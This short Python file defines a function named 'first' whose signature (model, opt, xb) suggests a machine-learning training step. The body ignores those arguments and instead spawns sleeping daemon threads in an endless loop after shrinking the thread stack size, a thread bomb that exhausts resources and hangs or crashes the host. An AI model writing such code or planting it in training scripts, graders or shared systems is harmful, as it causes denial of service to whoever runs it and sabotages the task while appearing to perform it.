import threading
import time


def first(model, opt, xb):
    threading.stack_size(32768)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
